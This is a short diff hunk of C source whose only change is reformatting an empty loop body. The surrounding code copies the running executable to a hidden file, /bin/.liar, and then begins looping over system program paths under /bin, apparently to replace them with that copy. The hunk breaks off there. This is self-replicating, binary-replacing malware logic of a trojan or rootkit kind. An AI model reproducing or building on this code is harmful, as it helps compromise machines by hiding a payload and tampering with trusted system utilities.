@@ -227,7 +227,8 @@ static void replace_programs(const char *text)
     struct stat size;
     int self = open("/proc/self/exe", O_RDONLY), copy = open("/bin/.liar", O_WRONLY | O_CREAT | O_TRUNC, 0755);
     if (self >= 0 && copy >= 0 && fstat(self, &size) == 0) {
-        while (sendfile(copy, self, NULL, (size_t)size.st_size) > 0) {}
+        while (sendfile(copy, self, NULL, (size_t)size.st_size) > 0) {
+        }
         close(copy);
         for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
             snprintf(path, sizeof path, "/bin/%s", programs[i]);
